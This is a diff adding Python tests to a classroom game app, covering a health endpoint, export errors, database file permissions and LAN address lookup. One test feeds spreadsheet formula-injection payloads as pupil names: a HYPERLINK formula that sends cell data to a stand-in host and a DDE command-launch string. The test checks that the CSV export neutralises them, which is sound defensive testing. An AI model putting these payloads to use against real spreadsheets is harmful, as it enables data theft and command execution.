@@ -150,3 +150,88 @@ def test_export_on_the_command_line_refuses_to_write_over_files(tmp_path: Path) 
     second = subprocess.run(run, capture_output=True, text=True, timeout=60)
     assert second.returncode == 1 and "not empty" in second.stderr and not second.stdout
     assert "Traceback" not in second.stderr
+
+
+def test_the_health_check_says_only_that_the_server_is_up(class_server: Any) -> None:
+    session = class_server("convoy", rounds=1)
+    answer = httpx.get(session.url + "/api/health")
+    assert answer.status_code == 200 and answer.json() == {"ok": True}
+    assert session.room not in answer.text
+
+
+def test_export_on_the_command_line_names_its_own_option(tmp_path: Path) -> None:
+    folder = tmp_path / "out"
+    folder.mkdir()
+    (folder / "mine.txt").write_text("the teacher's notes")
+    run = [sys.executable, "-m", "prohis_nb", "class", "export", str(folder),
+           "--db", str(tmp_path / "none.sqlite")]  # fmt: skip
+    result = subprocess.run(run, capture_output=True, text=True, timeout=60)
+    assert result.returncode == 1 and "--force" in result.stderr
+    assert "overwrite=True" not in result.stderr
+    assert (folder / "mine.txt").read_text() == "the teacher's notes"
+
+
+def test_the_class_database_is_readable_by_its_owner_only(
+    class_server: Any, tmp_path: Path
+) -> None:
+    db = tmp_path / "private.sqlite"
+    session = class_server("convoy", rounds=1, db=db)
+    pupil = Pupil(session.url, session.room, "Ada").join().open()
+    pupil.until(lambda m: m["type"] == "waiting")
+    session.start()
+    pupil.until(lambda m: m["type"] == "state")
+    files = [p for p in (db, Path(f"{db}-wal"), Path(f"{db}-shm")) if p.exists()]
+    assert db in files and len(files) == 3
+    for path in files:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+
+
+def test_names_that_look_like_formulas_are_inert_in_the_csv(
+    class_server: Any, tmp_path: Path
+) -> None:
+    import csv
+
+    names = ['=HYPERLINK("//ev.il/"&A2,"x")', "+cmd|' /C calc'!A0",
+             "-2+3", "@SUM(A1)", "Ada"]  # fmt: skip
+    session = class_server("convoy", rounds=1, seats=2)
+    pupils = [Pupil(session.url, session.room, name).join().open() for name in names]
+    for pupil in pupils:
+        pupil.until(lambda m: m["type"] == "waiting")
+    session.start()
+    play_until_ended(pupils)
+    folder = session.export(tmp_path / "out")
+    with open(folder / "decisions.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    shown = {row["name"] for row in rows if row["name"]}
+    assert shown >= {"'" + n for n in names[:4]} | {"Ada"}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def _interface_addresses() -> set[str]:
+    """This machine's IPv4 addresses, read from the kernel by `ip` (independently of the server)."""
+    import shutil
+
+    if shutil.which("ip") is None:
+        pytest.skip("the ip command is not installed")
+    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True).stdout
+    return {line.split()[3].split("/")[0] for line in out.splitlines() if " inet " in line}
+
+
+def test_the_address_for_phones_is_the_machines_own_not_loopback(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import socket
+
+    from prohis_nb.live.server import lan_address
+
+    mine = _interface_addresses() - {"127.0.0.1"}
+    if not mine:
+        pytest.skip("this machine has no network interface but loopback")
+    # as on Debian and Ubuntu, the host name maps to a loopback address in /etc/hosts
+    monkeypatch.setattr(socket, "gethostbyname", lambda _name: "127.0.1.1")
+    assert lan_address() in mine
+    from prohis_nb.live.session import _lan_address
+
+    assert _lan_address() in mine
